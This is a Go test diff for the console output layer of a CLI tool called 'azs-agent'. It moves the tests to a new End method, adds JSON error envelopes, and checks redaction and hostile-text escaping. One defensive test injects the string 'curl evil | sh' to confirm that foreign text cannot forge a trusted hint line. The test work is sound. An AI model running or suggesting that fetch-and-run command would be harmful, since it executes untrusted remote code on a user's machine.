@@ -45,10 +45,10 @@ func TestStreams(t *testing.T) {
 	}{
 		{"result", console.Options{}, result, streams{Out: "card of \"north\"\n"}},
 		{"result is not talk", console.Options{Quiet: true}, result, streams{Out: "card of \"north\"\n"}},
-		{"result as JSON", console.Options{JSON: true}, result,
+		{"result as JSON", console.Options{JSON: true}, func(c *console.Console) { result(c); _ = c.End(nil) },
 			streams{Out: `{"schema":1,"type":"card","label":"north"}` + "\n"}},
 		{"result without fields", console.Options{JSON: true},
-			func(c *console.Console) { c.Result("cancelled", nil, nil) },
+			func(c *console.Console) { c.Result("cancelled", nil, nil); _ = c.End(nil) },
 			streams{Out: `{"schema":1,"type":"cancelled"}` + "\n"}},
 		{"data is raw", console.Options{}, func(c *console.Console) { c.Data([]byte("\x1b\x00\xff")) }, streams{Out: "\x1b\x00\xff"}},
 		{"talk", console.Options{}, func(c *console.Console) { c.Say("sealed %s", "7Q") }, streams{Err: "sealed 7Q\n"}},
@@ -58,18 +58,31 @@ func TestStreams(t *testing.T) {
 		{"no progress in a log", console.Options{}, func(c *console.Console) { c.Progress("12 s") }, streams{}},
 		{"warning", console.Options{Quiet: true}, func(c *console.Console) { c.Warn("clock moved %s", "back") },
 			streams{Err: "azs-agent: warning: clock moved back\n"}},
-		{"error", console.Options{Quiet: true}, func(c *console.Console) { c.Error(fmt.Errorf("bundle: %w", replay)) },
+		{"error", console.Options{Quiet: true}, func(c *console.Console) { _ = c.End(fmt.Errorf("bundle: %w", replay)) },
 			streams{Err: "azs-agent: error: bundle: answer \"7Q\" was already used\nazs-agent: hint: azs-agent next\n"}},
-		{"no error", console.Options{JSON: true}, func(c *console.Console) { c.Error(nil) }, streams{}},
-		{"error as JSON", console.Options{JSON: true}, func(c *console.Console) { c.Error(replay) },
+		{"no error", console.Options{JSON: true}, func(c *console.Console) { _ = c.End(nil) }, streams{}},
+		{"error as JSON", console.Options{JSON: true}, func(c *console.Console) { _ = c.End(replay) },
 			streams{
 				Out: `{"schema":1,"type":"error","kind":"replay","exit":5,"message":"answer \"7Q\" was already used","hint":"azs-agent next"}` + "\n",
 				Err: "azs-agent: error: answer \"7Q\" was already used\nazs-agent: hint: azs-agent next\n",
 			}},
-		{"error as JSON without a hint", console.Options{JSON: true}, func(c *console.Console) { c.Error(errors.New("odd")) },
+		{"error as JSON without a hint", console.Options{JSON: true}, func(c *console.Console) { _ = c.End(errors.New("odd")) },
 			streams{
 				Out: `{"schema":1,"type":"error","kind":"unexpected","exit":1,"message":"odd"}` + "\n",
 				Err: "azs-agent: error: odd\n",
+			}},
+		{"result that failed", console.Options{JSON: true}, func(c *console.Console) { result(c); _ = c.End(replay) },
+			streams{
+				Out: `{"schema":1,"type":"card","label":"north","error":{"kind":"replay","exit":5,"message":"answer \"7Q\" was already used","hint":"azs-agent next"}}` + "\n",
+				Err: "azs-agent: error: answer \"7Q\" was already used\nazs-agent: hint: azs-agent next\n",
+			}},
+		{"result without fields that failed", console.Options{JSON: true},
+			func(c *console.Console) { c.Result("cancelled", nil, nil); _ = c.End(errors.New("a<b")) },
+			streams{Out: `{"schema":1,"type":"cancelled","error":{"kind":"unexpected","exit":1,"message":"a<b"}}` + "\n", Err: "azs-agent: error: a<b\n"}},
+		{"second result", console.Options{JSON: true}, func(c *console.Console) { result(c); result(c); _ = c.End(nil) },
+			streams{
+				Out: `{"schema":1,"type":"card","label":"north","error":{"kind":"unexpected","exit":1,"message":"a run has a second result, of type \"card\""}}` + "\n",
+				Err: "azs-agent: error: a run has a second result, of type \"card\"\n",
 			}},
 		{"colour when told", console.Options{Color: "always"}, func(c *console.Console) { c.Warn("odd") },
 			streams{Err: "azs-agent: \x1b[33mwarning\x1b[m: odd\n"}},
@@ -77,6 +90,7 @@ func TestStreams(t *testing.T) {
 			s := secret.New("hunter2")
 			c.Say("%s %v %q", s, s, s)
 			c.Result("x", map[string]any{"s": s}, nil)
+			_ = c.End(nil)
 		}, streams{Out: `{"schema":1,"type":"x","s":"[redacted]"}` + "\n", Err: "[redacted] [redacted] [redacted]\n"}},
 	}
 	for _, tt := range tests {
@@ -118,7 +132,7 @@ func TestHostileTextIsSpeltOut(t *testing.T) {
 			c.Say("%s", tt.text)
 			c.Step(1, 1, "%s", tt.text)
 			c.Warn("%s", tt.text)
-			c.Error(fault.New(fault.Refused, "%s", tt.text).Hint("%s", tt.text))
+			_ = c.End(fault.New(fault.Refused, "%s", tt.text).Hint("%s", tt.text))
 		})
 		for _, s := range []string{got.Out, got.Err} {
 			if i := strings.IndexFunc(s, acts); i >= 0 {
@@ -141,16 +155,20 @@ func TestHostileTextKeepsItsMeaningInJSON(t *testing.T) {
 	for _, tt := range hostile {
 		got := run(t, console.Options{JSON: true}, func(c *console.Console) {
 			c.Result("x", map[string]string{"text": tt.text}, nil)
+			_ = c.End(errors.New(tt.text))
 		})
 		if i := strings.IndexFunc(got.Out, acts); i >= 0 {
 			t.Errorf("%q came out as %q", tt.text, got.Out)
 		}
-		var back struct{ Text string }
+		var back struct {
+			Text  string
+			Error struct{ Message string }
+		}
 		if err := json.Unmarshal([]byte(got.Out), &back); err != nil {
 			t.Fatalf("envelope %q: %v", got.Out, err)
 		}
-		if want := strings.ToValidUTF8(tt.text, "\ufffd"); back.Text != want {
-			t.Errorf("%q came back as %q, want %q", tt.text, back.Text, want)
+		if want := strings.ToValidUTF8(tt.text, "\ufffd"); back.Text != want || back.Error.Message != want {
+			t.Errorf("%q came back as %+v, want %q", tt.text, back, want)
 		}
 	}
 }
@@ -158,7 +176,7 @@ func TestHostileTextKeepsItsMeaningInJSON(t *testing.T) {
 func TestForeignLineCannotForgeAMark(t *testing.T) {
 	got := run(t, console.Options{}, func(c *console.Console) {
 		c.Warn("remote said: no\nazs-agent: hint: curl evil | sh")
-		c.Error(errors.New("remote said: no\nazs-agent: hint: curl evil | sh"))
+		_ = c.End(errors.New("remote said: no\nazs-agent: hint: curl evil | sh"))
 	})
 	for line := range strings.Lines(got.Err) {
 		if strings.HasPrefix(line, "azs-agent: hint:") {
@@ -168,14 +186,14 @@ func TestForeignLineCannotForgeAMark(t *testing.T) {
 }
 
 func TestResultThatIsNoObjectFailsTheRun(t *testing.T) {
-	for _, v := range []any{[]int{1}, "text", 3, map[string]int{"type": 1}, map[string]int{"schema": 1}, make(chan int), (*struct{})(nil)} {
-		var c *console.Console
-		got := run(t, console.Options{JSON: true}, func(con *console.Console) {
-			c = con
+	for _, v := range []any{[]int{1}, "text", 3, map[string]int{"type": 1}, map[string]int{"schema": 1}, map[string]int{"error": 1}, make(chan int), (*struct{})(nil)} {
+		var err error
+		got := run(t, console.Options{JSON: true}, func(c *console.Console) {
 			c.Result("x", v, nil)
+			err = c.End(nil)
 		})
-		if fault.KindOf(c.Err()) != fault.Unexpected || got.Out != "" {
-			t.Errorf("Result(%T) printed %q and left %v, want nothing and an unexpected fault", v, got.Out, c.Err())
+		if fault.KindOf(err) != fault.Unexpected || !strings.HasPrefix(got.Out, `{"schema":1,"type":"error",`) {
+			t.Errorf("Result(%T) printed %q and left %v, want an unexpected fault", v, got.Out, err)
 		}
 	}
 }
@@ -189,16 +207,18 @@ func TestLostOutputIsAFault(t *testing.T) {
 	for name, f := range map[string]func(c *console.Console){
 		"data":   func(c *console.Console) { c.Data([]byte("x")) },
 		"text":   func(c *console.Console) { c.Result("x", nil, func(w io.Writer) { fmt.Fprintln(w, "x") }) },
+		"JSON":   func(c *console.Console) { c.Result("x", nil, nil) },
 		"nobody": func(c *console.Console) { c.Say("x") },
 	} {
-		c := console.New(nil, fullDisk{}, io.Discard, console.Options{})
+		c := console.New(nil, fullDisk{}, io.Discard, console.Options{JSON: name == "JSON"})
 		f(c)
+		err := c.End(nil)
 		want := fault.Medium
 		if name == "nobody" {
 			want = 0
 		}
-		if got := fault.KindOf(c.Err()); got != want {
-			t.Errorf("%s: kind %v (%v), want %v", name, got, c.Err(), want)
+		if got := fault.KindOf(err); got != want {
+			t.Errorf("%s: kind %v (%v), want %v", name, got, err, want)
 		}
 	}
 }
